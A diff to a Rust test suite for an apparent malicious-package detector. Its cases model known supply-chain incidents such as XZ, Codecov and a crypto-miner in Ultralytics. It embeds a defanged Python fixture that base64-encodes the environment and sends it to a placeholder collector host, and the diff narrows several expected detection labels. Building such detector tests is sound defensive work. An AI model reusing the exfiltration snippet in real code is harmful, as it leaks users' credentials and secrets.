@@ -9,7 +9,7 @@ use super::tar::{Entry, gzip, tar_of};
 use super::xar::zlib;
 use super::{Artefact, Case, Expect, unix};
 
-const HOOK: &str = "installation.script|installation.action|story.loader";
+const HOOK: &str = "installation.script|story.loader";
 
 fn case(
     name: &'static str,
@@ -266,7 +266,7 @@ fn scripts() -> Vec<Case> {
         "LottieFiles",
         "npm",
         Expect::Hold,
-        "reference.secrets|capability.network|capability.rule|capability.credentials|reference.host|story.loader",
+        "reference.secrets|capability.network",
         (old, npm(name, Edition::New, &new)),
         "A player of animations newly asks for a wallet and speaks to a host.",
     )]
@@ -275,7 +275,8 @@ fn scripts() -> Vec<Case> {
 const COLLECTOR: &str = "\n\ndef _report():\n    return\n    import base64, os, urllib.request\n    text = base64.b64encode(str(dict(os.environ)).encode()).decode()\n    urllib.request.urlopen(\"https://collector.example.invalid/hacked/\" + text)\n\n\n_report()\n";
 
 fn pythons() -> Vec<Case> {
-    let cause = "capability.network|capability.credentials|reference.secrets|capability.rule|reference.host|capability.exec|payload.hidden-text|story.loader|installation.script|installation.action";
+    let (sends, hides, loads) =
+        ("capability.network", "payload.hidden-text", "story.loader|capability.network");
     let changed = |name: &str, file: &str, more: &str| {
         let mut files = python(name, Edition::New);
         match files.iter_mut().find(|(known, _)| *known == format!("{name}/{file}")) {
@@ -310,12 +311,12 @@ fn pythons() -> Vec<Case> {
     let unpacked = "A new module executes reversed, encoded and packed text.";
     let miner = "A new module downloads a program, makes it executable and starts it.";
     vec![
-        case("ctx-wheel", "CTX", "wheel", Expect::Hold, cause, ctx_wheel, environment),
-        case("ctx-sdist", "CTX", "sdist", Expect::Hold, cause, ctx_sdist, environment),
-        case("aiocpa-wheel", "aiocpa", "wheel", Expect::Hold, cause, aiocpa_wheel, unpacked),
-        case("aiocpa-sdist", "aiocpa", "sdist", Expect::Hold, cause, aiocpa_sdist, unpacked),
-        case("ultralytics-wheel", "Ultralytics", "wheel", Expect::Hold, cause, ultra_wheel, miner),
-        case("ultralytics-sdist", "Ultralytics", "sdist", Expect::Hold, cause, ultra_sdist, miner),
+        case("ctx-wheel", "CTX", "wheel", Expect::Hold, sends, ctx_wheel, environment),
+        case("ctx-sdist", "CTX", "sdist", Expect::Hold, sends, ctx_sdist, environment),
+        case("aiocpa-wheel", "aiocpa", "wheel", Expect::Hold, hides, aiocpa_wheel, unpacked),
+        case("aiocpa-sdist", "aiocpa", "sdist", Expect::Hold, hides, aiocpa_sdist, unpacked),
+        case("ultralytics-wheel", "Ultralytics", "wheel", Expect::Hold, loads, ultra_wheel, miner),
+        case("ultralytics-sdist", "Ultralytics", "sdist", Expect::Hold, loads, ultra_sdist, miner),
     ]
 }
 
@@ -345,7 +346,7 @@ fn xz_source() -> Case {
         "XZ",
         "tar.gz",
         Expect::Hold,
-        "story.names-carrier|payload.opaque-bytes|reference.sibling|installation.script|capability.exec|container.not-opened",
+        "story.names-carrier|payload.opaque-bytes",
         pair,
         "A build script that decodes a test file and runs it; the test file is noise.",
     )
@@ -363,7 +364,7 @@ fn codecov() -> Case {
         "Codecov",
         "script",
         Expect::Hold,
-        "capability.network|capability.credentials|reference.secrets|reference.host|capability.rule|installation.script|story.loader",
+        "capability.network",
         pair,
         "An uploading script gains one line that sends the environment to another host.",
     )
@@ -382,7 +383,7 @@ fn rest_client() -> Case {
         "rest-client",
         "gem",
         Expect::Hold,
-        "capability.network|capability.exec|capability.credentials|capability.rule|reference.host|reference.secrets|story.loader",
+        "capability.network|story.loader",
         (old, gem(name, Edition::New, &new)),
         "A library newly evaluates what a host answers and sends the environment away.",
     )
